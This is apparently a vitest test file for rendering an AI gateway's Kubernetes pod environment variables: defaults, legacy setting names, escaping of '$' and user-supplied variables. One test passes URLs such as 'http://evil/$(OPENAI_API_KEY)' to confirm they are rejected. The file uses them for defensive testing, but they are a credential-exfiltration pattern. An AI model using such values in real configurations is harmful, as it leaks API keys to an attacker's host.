import { describe, expect, it } from 'vitest';
import { newerSpec, olderSpec } from './testing/full-specs.ts';
import { environmentOf, podOf } from './testing/rendered.ts';

const secret = (name: string, key: string) => ({ secretKeyRef: { name, key } });
const given = (...env: object[]) => ({ providers: [{ name: 'OpenAI', env }] });
const namesOf = (spec: object) => (podOf(spec).container.env ?? []).map(({ name }) => name);

describe('the environment', () => {
  it('of a Gateway that says nothing', () => {
    expect(environmentOf({})).toEqual({
      ENVIRONMENT: 'production',
      SERVER_HOST: '0.0.0.0',
      SERVER_PORT: '8080',
      SERVER_READ_TIMEOUT: '60s',
      SERVER_WRITE_TIMEOUT: '60s',
      SERVER_IDLE_TIMEOUT: '300s',
      CLIENT_TIMEOUT: '60s',
      CLIENT_RESPONSE_HEADER_TIMEOUT: '60s',
      ENABLE_TELEMETRY: 'false',
      TELEMETRY_ENABLE: 'false',
      TELEMETRY_ENABLED: 'false',
      TELEMETRY_METRICS_PORT: '9464',
      ENABLE_AUTH: 'false',
      AUTH_ENABLE: 'false',
      AUTH_ENABLED: 'false',
      MCP_ENABLE: 'false',
      MCP_ENABLED: 'false',
    });
  });

  it('of the older shape says everything, under every name', () => {
    expect(environmentOf(olderSpec)).toEqual({
      ENVIRONMENT: 'staging',
      SERVER_HOST: 'ai.example.com',
      SERVER_PORT: '9000',
      SERVER_READ_TIMEOUT: '90s',
      SERVER_WRITE_TIMEOUT: '100s',
      SERVER_IDLE_TIMEOUT: '200s',
      CLIENT_TIMEOUT: '90s',
      CLIENT_RESPONSE_HEADER_TIMEOUT: '90s',
      SERVER_TLS_CERT_PATH: '/app/tls/tls.crt',
      SERVER_TLS_KEY_PATH: '/app/tls/tls.key',
      SSL_CERT_DIR: '/app/tls',
      ENABLE_TELEMETRY: 'true',
      TELEMETRY_ENABLE: 'true',
      TELEMETRY_ENABLED: 'true',
      TELEMETRY_METRICS_PORT: '9500',
      TELEMETRY_TRACING_ENABLE: 'true',
      TELEMETRY_TRACING_ENABLED: 'true',
      TELEMETRY_TRACING_OTLP_ENDPOINT: 'http://collector:4318',
      ENABLE_AUTH: 'true',
      AUTH_ENABLE: 'true',
      AUTH_ENABLED: 'true',
      OIDC_ISSUER_URL: 'https://auth.example.com/realms/ai',
      AUTH_OIDC_ISSUER: 'https://auth.example.com/realms/ai',
      OIDC_CLIENT_ID: 'ai',
      AUTH_OIDC_CLIENT_ID: 'ai',
      OIDC_CLIENT_SECRET: { secretKeyRef: { name: 'auth', key: 'secret', optional: true } },
      AUTH_OIDC_CLIENT_SECRET: { secretKeyRef: { name: 'auth', key: 'secret', optional: true } },
      MCP_ENABLE: 'true',
      MCP_ENABLED: 'true',
      MCP_EXPOSE: 'true',
      MCP_SERVERS: 'http://files:8080/mcp,http://search:8080/mcp',
      MCP_CLIENT_TIMEOUT: '11s',
      MCP_DIAL_TIMEOUT: '6s',
      MCP_TLS_HANDSHAKE_TIMEOUT: '7s',
      MCP_RESPONSE_HEADER_TIMEOUT: '8s',
      MCP_REQUEST_TIMEOUT: '12s',
      MCP_POLLING_ENABLE: 'true',
      MCP_POLLING_ENABLED: 'true',
      MCP_POLLING_INTERVAL: '30s',
      A2A_ENABLE: 'true',
      A2A_EXPOSE: 'true',
      A2A_AGENTS: 'http://calendar:8080',
      A2A_CLIENT_TIMEOUT: '70s',
      A2A_POLLING_ENABLE: 'true',
      A2A_POLLING_INTERVAL: '3s',
      A2A_POLLING_TIMEOUT: '50s',
      A2A_MAX_POLL_ATTEMPTS: '20',
      OPENAI_API_URL: 'https://api.openai.com/v1',
      OPENAI_API_KEY: secret('keys', 'openai'),
    });
  });

  it('of the newer shape ends with the variables of the providers, in their order', () => {
    expect(namesOf(newerSpec).slice(-5)).toEqual([
      'OPENAI_API_KEY',
      'REGION',
      'POD',
      'MEMORY',
      'ALLOWED_MODELS',
    ]);
  });

  it.each([
    ['older', olderSpec],
    ['newer', newerSpec],
    ['empty', {}],
  ])('of the %s shape has no name twice, and no empty value', (_, spec) => {
    const names = namesOf(spec);
    expect(names).toEqual([...new Set(names)]);
    expect(Object.entries(environmentOf(spec)).filter(([, value]) => value === '')).toEqual([]);
  });

  it('has one name for every release of the gateway that knows the setting', () => {
    // The rename matrix: up to 0.13.0, 0.14.0, up to 0.40.0, from 0.41.0.
    const matrix = [
      ['ENABLE_TELEMETRY', 'TELEMETRY_ENABLE', 'TELEMETRY_ENABLE', 'TELEMETRY_ENABLED'],
      ['ENABLE_AUTH', 'ENABLE_AUTH', 'AUTH_ENABLE', 'AUTH_ENABLED'],
      ['OIDC_ISSUER_URL', 'OIDC_ISSUER_URL', 'AUTH_OIDC_ISSUER', 'AUTH_OIDC_ISSUER'],
      ['OIDC_CLIENT_ID', 'OIDC_CLIENT_ID', 'AUTH_OIDC_CLIENT_ID', 'AUTH_OIDC_CLIENT_ID'],
      ['OIDC_CLIENT_SECRET', 'OIDC_CLIENT_SECRET', 'AUTH_OIDC_CLIENT_SECRET', 'AUTH_OIDC_CLIENT_SECRET'],
      ['MCP_ENABLE', 'MCP_ENABLE', 'MCP_ENABLE', 'MCP_ENABLED'],
      ['MCP_POLLING_ENABLE', 'MCP_POLLING_ENABLE', 'MCP_POLLING_ENABLE', 'MCP_POLLING_ENABLED'],
      ['TELEMETRY_TRACING_ENABLE', 'TELEMETRY_TRACING_ENABLED'],
    ];
    const rendered = environmentOf(olderSpec);
    for (const names of matrix) {
      const [first = ''] = names;
      expect(names.map((name) => rendered[name])).toEqual(names.map(() => rendered[first]));
      expect(rendered[first]).toBeDefined();
    }
  });

  it('has the issuer for jwt as for oidc', () => {
    const auth = { enabled: true, provider: 'jwt', oidc: { issuerUrl: 'https://a.example.com' } };
    expect(environmentOf({ auth })).toMatchObject({
      AUTH_ENABLED: 'true',
      AUTH_OIDC_ISSUER: 'https://a.example.com',
    });
  });

  it('leaves out lists that are empty, and what is off', () => {
    const spec = {
      mcp: { enabled: true },
      a2a: { enabled: true },
      telemetry: { tracing: { enabled: false } },
    };
    const rendered = environmentOf(spec);
    for (const name of ['MCP_SERVERS', 'A2A_AGENTS', 'TELEMETRY_TRACING_ENABLED', 'AUTH_OIDC_ISSUER']) {
      expect(rendered).not.toHaveProperty(name);
    }
  });

  /** What the kubelet makes of a value: from the left, `$$` is a dollar, and only then would `$(NAME)` be a variable. */
  const expanded = (value: unknown) =>
    String(value).replaceAll(/\$\$|\$\((\w+)\)/g, (found) => (found === '$$' ? '$' : 'THE VARIABLE'));

  it('takes text of fields as it is, where a container would refer to variables', () => {
    const oidc = { issuerUrl: 'https://a.example.com/$HOME/$$x', clientId: 'a$(B)$$' };
    const config = { baseUrl: 'https://b.example.com/$$/$c' };
    const providers = [{ name: 'OpenAI', type: 'openai', config }];
    const env = environmentOf({ auth: { enabled: true, oidc }, providers });
    expect(env).toMatchObject({
      AUTH_OIDC_ISSUER: 'https://a.example.com/$$HOME/$$$$x',
      AUTH_OIDC_CLIENT_ID: 'a$$(B)$$$$',
    });
    expect(expanded(env.AUTH_OIDC_ISSUER)).toBe(oidc.issuerUrl);
    expect(expanded(env.AUTH_OIDC_CLIENT_ID)).toBe(oidc.clientId);
    expect(expanded(env.OPENAI_API_URL)).toBe(config.baseUrl);
  });

  it.each([
    ['an issuer', { auth: { enabled: true, oidc: { issuerUrl: 'https://a.example.com/$(HOME)' } } }],
    [
      'a provider',
      {
        providers: [{ name: 'OpenAI', type: 'openai', config: { baseUrl: 'http://evil/$(OPENAI_API_KEY)' } }],
      },
    ],
    [
      'an MCP server',
      { mcp: { enabled: true, servers: [{ name: 'a', url: 'http://evil/$(OPENAI_API_KEY)' }] } },
    ],
  ])('is not made of a URL that names a variable: that of %s', (_, spec) => {
    expect(() => environmentOf(spec)).toThrow('the spec is invalid');
  });
});

describe("a user's own variable", () => {
  it('wins over the field', () => {
    expect(environmentOf(given({ name: 'SERVER_READ_TIMEOUT', value: '230s' })).SERVER_READ_TIMEOUT).toBe(
      '230s',
    );
  });

  it('wins under every name of the setting, so that it counts whatever the image', () => {
    const valueFrom = { configMapKeyRef: { name: 'settings', key: 'telemetry' } };
    const spec = given({ name: 'TELEMETRY_ENABLE', valueFrom });
    expect(environmentOf(spec)).toMatchObject({
      ENABLE_TELEMETRY: valueFrom,
      TELEMETRY_ENABLE: valueFrom,
      TELEMETRY_ENABLED: valueFrom,
    });
  });

  it('stands as it is where several names of a setting are given', () => {
    const one = { name: 'TELEMETRY_ENABLE', value: 'true' };
    const other = { name: 'TELEMETRY_ENABLED', value: 'false' };
    expect(environmentOf(given(one, other))).toMatchObject({
      TELEMETRY_ENABLE: 'true',
      TELEMETRY_ENABLED: 'false',
    });
  });

  it('that is empty does not take a setting away: the gateway would read zero', () => {
    expect(environmentOf(given({ name: 'SERVER_READ_TIMEOUT', value: '' })).SERVER_READ_TIMEOUT).toBe('60s');
    expect(environmentOf(given({ name: 'SERVER_READ_TIMEOUT' })).SERVER_READ_TIMEOUT).toBe('60s');
    expect(environmentOf(given({ name: 'EMPTY', value: '' })).EMPTY).toBe('');
  });

  it('keeps its place among the others, since they may refer to each other', () => {
    const spec = given(
      { name: 'LIMIT', value: '9' },
      { name: 'CLIENT_TIMEOUT', value: '$(LIMIT)s' },
      { name: 'PORT', value: '$(SERVER_PORT)' },
    );
    const names = namesOf(spec);
    expect(names.slice(-3)).toEqual(['LIMIT', 'CLIENT_TIMEOUT', 'PORT']);
    expect(names.indexOf('SERVER_PORT')).toBeLessThan(names.indexOf('PORT'));
  });

  it('that two providers share stands once', () => {
    const env = [{ name: 'SHARED', value: 'a' }];
    const spec = {
      providers: [
        { name: 'OpenAI', env },
        { name: 'Groq', env },
      ],
    };
    expect(namesOf(spec).filter((name) => name === 'SHARED')).toEqual(['SHARED']);
  });
});
